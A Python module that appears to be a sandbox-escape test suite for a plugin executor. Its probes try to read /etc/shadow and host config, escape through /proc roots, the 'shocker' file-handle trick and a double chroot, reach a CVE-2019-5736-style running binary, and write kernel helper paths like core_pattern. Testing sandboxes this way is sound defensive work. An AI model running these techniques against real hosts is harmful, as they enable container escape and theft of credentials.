"""Attacks on files: those of the host, of the executor, of other plugins, and of the interpreter that all share."""

from __future__ import annotations

import ctypes
import errno
import fcntl
import os
import stat
import struct
import subprocess
import sys

from attacks import any_of, attack, bare, off
from attacks.calls import AT_FDCWD, call, in_child, parent, read, writable

CLONE_NEWNS = 0x0002_0000
INSIDE_ROOT = ("unprivileged_user", "capabilities", "seccomp")


def _listing(folder: str) -> str | None:
    names = os.listdir(folder)
    return f"{folder}: {sorted(names)[:10]}" if names else None


def _make_nameless(folder: str) -> str:
    """Make a file without a name, which is gone when it is closed."""
    os.close(os.open(folder, os.O_TMPFILE | os.O_RDWR, 0o600))
    return f"{folder} could be written to"


@attack("Reads the host's passwords", proof=bare("root"))
def passwords(_):
    return any_of(read, ("/etc/shadow", "/etc/gshadow", "/etc/shadow-"))


@attack("Reads who has accounts on the host", proof=bare())
def accounts(_):
    with open("/etc/passwd") as file:
        names = [line.partition(":")[0] for line in file]
    return f"{names}" if len(names) > 5 else None


@attack("Finds out which machine it is on", proof=bare())
def identity_of_host(_):
    return any_of(read, ("/etc/machine-id", "/etc/hostname", "/proc/sys/kernel/random/boot_id", "/proc/cmdline"))


@attack("Reads keys and histories in the homes of users", proof=bare("root"))
def homes(target):
    """What leads to the interpreter and to its own folder does not count."""
    ways = [*sys.path, sys.prefix, sys.base_prefix, os.getcwd()]

    def look(folder: str) -> str | None:
        names = os.listdir(folder)
        found = [name for name in names if not any(way.startswith(f"{folder}/{name}") for way in ways)]
        return f"{found[:10]}" if found else None

    return any_of(look, ("/root", "/home", target["home"]))


@attack("Reads another plugin's files", proof=bare())
def other_plugin(target):
    return read(target["other_plugin"])


@attack("Reads another plugin's files, next to its own", proof=bare())
def neighbours(_):
    others = [name for name in os.listdir("..") if name != os.path.basename(os.getcwd())]
    return any_of(lambda name: _listing(f"../{name}"), others)


@attack("Reads the executor's configuration", proof=bare())
def configuration(target):
    return read(target["config"])


@attack("Reads the executor's state", proof=bare())
def state(target):
    return _listing(target["state_dir"])


@attack("Leaves something in the executor's state", proof=bare())
def write_state(target):
    return _make_nameless(target["state_dir"])


@attack("Reads temporary files of the host", proof=bare())
def temporary_files(target):
    return read(target["tmp_file"])


@attack("Reads shared memory of the host", proof=bare())
def shared_memory(target):
    return read(target["shm_file"])


@attack("Reads a file of the host by a symbolic link in its own folder", proof=bare())
def symbolic_link(target):
    link = f"{_scratch()}/link-{os.getpid()}"
    os.symlink(target["config"], link)
    try:
        return read(link)
    finally:
        os.unlink(link)


@attack("Climbs out with ..", proof=bare())
def climb_out(target):
    starts = ("", os.getcwd(), "/tmp", "/proc/self/cwd", "/proc/self/root", "/proc/self/fd", "/dev/fd")
    return any_of(lambda start: read(f"{start}/{'../' * 40}{target['config']}"), starts)


@attack("Goes by its own root or working directory in /proc", proof=bare())
def roots_in_proc(target):
    ways = (
        "self/root",
        "thread-self/root",
        f"self/task/{os.getpid()}/root",
        f"{os.getpid()}/root",
        "self/cwd/../../..",
    )
    return any_of(lambda way: read(f"/proc/{way}{target['config']}"), ways)


@attack("Goes by the root of process 1", proof=bare())
def root_of_first(target):
    return any_of(lambda process: read(f"/proc/{process}/root{target['config']}"), [1, parent()])


@attack("Opens a file by its number, past all folders: shocker", proof=bare("root"))
def by_handle(_):
    """Opens the root of the file system that its own code is on, and if that fails, any file of it."""
    handle = ctypes.create_string_buffer(struct.pack("<Ii128x", 128, 0))
    mount = ctypes.c_int()
    call("name_to_handle_at", AT_FDCWD, os.fsencode(os.__file__), handle, ctypes.byref(mount), 0)
    root = ctypes.create_string_buffer(struct.pack("<IiII120x", 8, 1, 2, 0))
    where = os.open(os.path.dirname(os.__file__), os.O_RDONLY)

    def look(form: str) -> str:
        descriptor = call("open_by_handle_at", where, root if form == "root" else handle, os.O_RDONLY)
        return os.readlink(f"/proc/self/fd/{descriptor}")

    try:
        return any_of(look, ("root", "own"))
    finally:
        os.close(where)


def _scratch() -> str:
    return os.environ.get("TMPDIR", "/tmp")


@attack("Makes a second name for a file that it may not write, where it may write", proof=bare())
def hard_link(_):
    """Both names in folders of the same file system, if there are any."""

    def link(folder: str) -> str:
        name = f"{folder}/link-{os.getpid()}"
        os.link("attacks/__init__.py", name)
        os.unlink(name)
        return name

    return any_of(link, (_scratch(), ".", "/dev/shm"))


@attack("Writes into its own plugin's folder, for its next request to find", proof=bare())
def plugin_folder(_):
    return any_of(_make_nameless, (".", "endpoints", "_assets"))


@attack("Changes its own source, or that of the next request", proof=bare())
def own_source(_):
    return any_of(writable, ("attacks/files.py", "endpoints/attack.py", "manifest.yaml"))


@attack("Changes the interpreter's library, which all share", proof=bare("root"))
def library(_):
    return any_of(writable, (os.__file__, subprocess.__file__, errno.__spec__.origin or os.__file__))


@attack("Puts files where the interpreter looks for modules", proof=bare("root"))
def module_folders(_):
    return any_of(_make_nameless, [path for path in sys.path if os.path.isdir(path) and path != os.getcwd()])


@attack("Changes programs of the system", proof=bare("root"))
def programs(_):
    return any_of(writable, ("/usr/bin/env", "/bin/sh", "/usr/bin/id"))


@attack("Puts files into folders of the system", proof=bare("root"))
def system_folders(_):
    return any_of(_make_nameless, ("/", "/etc", "/usr", "/usr/bin", "/usr/lib", "/bin", "/lib", "/var", "/run", "/dev"))


@attack("Changes who may do what with files of the system", proof=bare("root"))
def permissions(_):
    def change(path: str) -> str:
        os.chmod(path, stat.S_IMODE(os.stat(path).st_mode))
        return "its mode could be set"

    return any_of(change, ("/usr/bin/env", os.__file__, "/", "/etc", "/etc/passwd", "/dev/null"))


@attack("Changes the times of files of the system", proof=bare("root"))
def times(_):
    """To what they are."""

    def change(path: str) -> str:
        seen = os.stat(path)
        os.utime(path, ns=(seen.st_atime_ns, seen.st_mtime_ns))
        return "its times could be set"

    return any_of(change, ("/usr/bin/env", os.__file__, "/", "/etc/passwd", "attacks/files.py"))


@attack("Overwrites a program of the host that runs (CVE-2019-5736)", proof=bare("root"))
def running_program(_):
    """By a descriptor of its own executable, taken while it ran and used when it no longer does."""
    with subprocess.Popen(["/usr/bin/tac"], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL) as child:
        held = os.open(f"/proc/{child.pid}/exe", os.O_PATH)
        child.kill()
    return writable(f"/proc/self/fd/{held}")


@attack("Overwrites its own interpreter while it runs", proof=bare("root"))
def own_program(_):
    """Nobody can, where the kernel says that it is busy; that it says so shows that nothing else is in the way."""
    try:
        return writable("/proc/self/exe")
    except OSError as error:
        if error.errno == errno.ETXTBSY:
            return "only that it runs is in the way"
        raise


@attack("Makes a device that reaches the disk or the memory of the host", proof=bare("root"))
def make_device(_):
    """The same right, for a harmless device: /dev/zero."""
    path = f"{_scratch()}/device-{os.getpid()}"
    os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 5))
    try:
        return read(path)
    finally:
        os.unlink(path)


@attack("Finds a place where devices work", proof=bare())
def devices_work(_):
    def look(folder: str) -> str | None:
        return None if os.statvfs(folder).f_flag & os.ST_NODEV else "devices work here"

    return any_of(look, ("/tmp", ".", "/", "/usr/bin", "/usr/lib", "/etc", "/dev", os.path.dirname(os.__file__)))


def _open_any(paths) -> str:
    def look(path: str) -> str:
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY))
        return "could be opened"

    return any_of(look, paths)


@attack("Opens a disk of the host", proof=bare("root"))
def disks(_):
    letters = [f"/dev/{kind}{letter}" for kind in ("vd", "sd", "xvd", "hd") for letter in "abc"]
    return _open_any([*letters, "/dev/nvme0n1", "/dev/mmcblk0", "/dev/loop0", "/dev/dm-0", "/dev/zram0", "/dev/root"])


@attack("Opens the memory, the log or the ports of the machine", proof=bare("root"))
def machine_devices(_):
    return _open_any(("/dev/kmsg", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/nvram", "/dev/cpu/0/msr", "/dev/hwrng"))


@attack("Opens a device that makes machines, networks or file systems", proof=bare("root"))
def maker_devices(_):
    names = ("kvm", "fuse", "net/tun", "loop-control", "userfaultfd", "vhost-net", "vhost-vsock", "vsock", "uinput")
    return _open_any([f"/dev/{name}" for name in names])


@attack("Opens a terminal: that of who has started the service, a console, or a new one", proof=bare())
def terminals(_):
    return _open_any(("/dev/ptmx", "/dev/pts/ptmx", "/dev/tty", "/dev/console", "/dev/tty0", "/dev/pts/0"))


@attack("Finds any device besides those that give and take nothing", proof=bare())
def other_devices(_):
    harmless = {"null", "zero", "full", "random", "urandom", "fd", "stdin", "stdout", "stderr", "shm"}
    others = set(os.listdir("/dev")) - harmless
    return f"{sorted(others)[:10]}" if others else None


@attack("Feeds the generator of random numbers", proof=off("landlock"))
def feed_random(_):
    return any_of(writable, ("/dev/random", "/dev/urandom"))


@attack("Says which program the kernel runs for core dumps, modules and devices", proof=bare("root"))
def helper_programs(_):
    names = ("core_pattern", "modprobe", "hotplug", "poweroff_cmd", "usermodehelper/bset")
    return any_of(writable, [*(f"/proc/sys/kernel/{name}" for name in names), "/sys/kernel/uevent_helper"])


@attack("Changes settings of the kernel", proof=bare("root"))
def kernel_settings(_):
    names = ("vm/drop_caches", "kernel/pid_max", "net/ipv4/ip_forward", "fs/file-max", "kernel/ns_last_pid")
    return any_of(writable, [f"/proc/sys/{name}" for name in names])


@attack("Presses the magic key, or changes what interrupts do", proof=bare("root"))
def kernel_controls(_):
    names = (
        "sysrq-trigger",
        "irq/default_smp_affinity",
        "mtrr",
        "acpi/wakeup",
        "timer_list",
        "fs/xfs/stat",
        "scsi/scsi",
    )
    return any_of(writable, [f"/proc/{name}" for name in names])


@attack("Reads what the kernel tells of the machine", proof=bare())
def kernel_files(_):
    names = ("kcore", "kallsyms", "keys", "kmsg", "iomem", "config.gz", "version", "meminfo", "cpuinfo", "stat")
    return any_of(lambda name: read(f"/proc/{name}"), names)


@attack("Looks into /sys", proof=bare())
def system_files(_):
    return any_of(_listing, ("/sys", "/sys/kernel", "/sys/class/net", "/sys/fs/cgroup", "/sys/firmware"))


@attack("Moves itself to another control group, or makes one", proof=bare("root"))
def control_groups(_):
    folders = ["/sys/fs/cgroup", *(f"/sys/fs/cgroup/{name}" for name in ("unified", "memory", "pids", "cpu"))]
    return any_of(writable, [f"{folder}/{name}" for folder in folders for name in ("cgroup.procs", "tasks")])


@attack("Remounts what it sees, for writing", proof=bare("root"))
def remount(_):
    """In a mount namespace of its own, where it can have one: elsewhere nothing changes."""

    def change(path: str) -> str:
        call("mount", None, path.encode(), None, 0x1000 | 0x20, None)  # MS_BIND | MS_REMOUNT
        return _make_nameless(path)

    def attempt() -> str | None:
        try:
            call("unshare", CLONE_NEWNS)
            call("mount", None, b"/", None, 0x4_4000, None)  # MS_PRIVATE | MS_REC
        except OSError:
            if not os.path.isdir("/proc/1/task/1"):  # in the sandbox: process 1 is not seen
                return any_of(change, ("/", "/usr/bin", os.getcwd(), "/dev/null"))
            raise
        return any_of(change, ("/", os.getcwd()))

    return in_child(attempt)


@attack("Mounts file systems of the kernel", proof=bare("root"))
def kernel_file_systems(_):
    folder = f"{_scratch()}/kernel-{os.getpid()}"
    os.mkdir(folder)

    def attempt(kind: str) -> str:
        try:
            call("unshare", CLONE_NEWNS)
            call("mount", None, b"/", None, 0x4_4000, None)
        finally:
            call("mount", b"none", folder.encode(), kind.encode(), 0, None)
        return f"{os.listdir(folder)[:5]}"

    try:
        return any_of(
            lambda kind: in_child(lambda: attempt(kind)), ("sysfs", "proc", "tracefs", "debugfs", "securityfs")
        )
    finally:
        os.rmdir(folder)


@attack("Leaves its root twice: chroot", proof=bare("root"))
def escape_by_chroot(target):
    folder = f"{_scratch()}/root-{os.getpid()}"
    os.mkdir(folder)

    def attempt() -> str | None:
        os.chroot(folder)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        return read(target["config"])

    try:
        return in_child(attempt)
    finally:
        os.rmdir(folder)


@attack("Makes a file of its own that nobody can remove", proof=bare("root"))
def immutable_file(_):
    path = f"{_scratch()}/immutable-{os.getpid()}"
    descriptor = os.open(path, os.O_RDWR | os.O_CREAT)
    try:
        flags = bytearray(8)
        fcntl.ioctl(descriptor, 0x8008_6601, flags, True)  # FS_IOC_GETFLAGS
        before = struct.unpack("<I", flags[:4])[0]
        fcntl.ioctl(descriptor, 0x4008_6602, struct.pack("<II", before | 0x10, 0))  # FS_IMMUTABLE_FL
        fcntl.ioctl(descriptor, 0x4008_6602, struct.pack("<II", before, 0))
    finally:
        os.close(descriptor)
        os.unlink(path)
    return "it could be made immutable"


@attack("Borrows a file that others read, so that they have to wait: a lease", proof=bare("root"))
def lease(_):
    descriptor = os.open(os.__file__, os.O_RDONLY)
    try:
        fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_RDLCK)
        fcntl.fcntl(descriptor, fcntl.F_SETLEASE, fcntl.F_UNLCK)
    finally:
        os.close(descriptor)
    return f"{os.__file__} could be leased"


@attack("Reads what hides below the mounts: the host's root, kept by a careless pivot", proof=bare())
def leftover_root(target):
    roots = ("/old", "/.old", "/oldroot", "/old_root", "/put_old", "/mnt", "/host", "/new", "/.pivot_root", "")
    return any_of(lambda root: read(f"{root}{target['config']}"), roots)


@attack("Writes into folders that it shares with other workers", proof=bare())
def shared_folders(target):
    return any_of(_make_nameless, ("/var/tmp", "/run/lock", "/run/shm", target["lures"]))
